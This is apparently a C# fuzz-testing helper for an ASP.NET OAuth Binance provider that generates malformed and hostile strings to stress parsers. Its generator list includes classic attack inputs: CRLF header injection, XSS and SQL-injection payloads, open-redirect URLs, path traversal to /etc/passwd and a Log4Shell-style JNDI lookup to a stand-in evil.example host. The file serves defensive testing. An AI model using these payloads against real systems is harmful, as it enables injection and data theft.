using System.Text;
using FsCheck;
using FsCheck.Fluent;

namespace AspNet.Security.OAuth.Binance.Tests.Security.Fuzz.Support;

/// <summary>
/// Texts that are known to break parsers, and how to shrink one.
/// </summary>
internal static class OddText
{
    private const int Shown = 200;

    private static Gen<string> Word { get; } = Of("abcdefghijklmnopqrstuvwxyzABCXYZ0123456789_-.~");

    public static Gen<string> Any { get; } = Gen.Frequency(
        (4, Word),
        (3, Of("&=;,?#%+/\\\"'<>{}[]()|^`$!*:@ \t.")),
        (2, Of("\0\u0001\u0008\t\n\u000b\r\u001b\u007f\u0085\u2028ab")),
        (2, Pieces("%", "%0", "%zz", "%00", "%ff%fe", "%c3%28", "%0d%0a", "%0D%0AX-Evil:%201", "%u0041", "%25", "%2e%2e%2f", "%ed%a0%80", "%2F", "+", "a")),
        (3, Gen.Elements(
            "\r\nX-Evil: 1", "\nSet-Cookie: evil=1", "//evil.example", "/\\evil.example", "\\\\evil.example", "https://evil.example/", "javascript:alert(1)",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE users; --", "{0}{1}", "{scheme}", "${jndi:ldap://evil.example}",
            "../../../etc/passwd", "null", "undefined", "NaN", "true", "-1", "0", "2147483648", "18446744073709551616", "[]", "{}", "[object Object]")),
        (2, Of("äßøñ€漢字ابت\u0301\u200b\u202e\ufeff\uffff\ufffd")),
        (1, Pieces("\U0001F600", "\ud83d", "\ude00", "\ud800", "\udfff", "a")),
        (1, from piece in Gen.Elements("a", "%", "%41", "&a=b", "é", "=", ";", "/", " ", "\0") from times in Gen.Frequency((3, Gen.Choose(100, 500)), (1, Gen.Choose(4_000, 9_000))) select Repeat(piece, times)),
        (1, Gen.Constant(string.Empty)));

    /// <summary>What a parser of headers lets through.</summary>
    public static Gen<string> Visible { get; } = Any.Select(text => new string([.. text.Where(c => c is >= ' ' and <= '~')]));

    /// <summary>Without halves of surrogate pairs, for what is encoded before it gets to the code that is tested.</summary>
    public static Gen<string> WellFormed { get; } = Any.Select(text => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(text)));

    public static string Repeat(string piece, int times) => new StringBuilder(piece.Length * times).Insert(0, piece, times).ToString();

    public static string Quote(string text)
    {
        var quoted = new StringBuilder("'");
        foreach (var c in text.AsSpan(0, Math.Min(text.Length, Shown)))
        {
            _ = c is >= ' ' and <= '~' ? quoted.Append(c) : quoted.Append($"\\u{(int)c:x4}");
        }

        return quoted.Append(text.Length > Shown ? $"' … ({text.Length} characters)" : "'").ToString();
    }

    public static IEnumerable<string> Smaller(string text)
    {
        if (text.Length == 0)
        {
            yield break;
        }

        yield return string.Empty;
        if (text.Length > 1)
        {
            yield return text[..(text.Length / 2)];
            yield return text[(text.Length / 2)..];
        }

        if (text.Length is > 2 and <= 64)
        {
            for (var i = 0; i < text.Length; i++)
            {
                yield return text.Remove(i, 1);
            }
        }
    }

    private static Gen<string> Of(string characters) => Pieces([.. characters.Select(c => c.ToString())]);

    private static Gen<string> Pieces(params string[] pieces)
        => Gen.ArrayOf(Gen.Elements(pieces)).ScaleSize(size => (size / 4) + 1).Select(string.Concat);
}
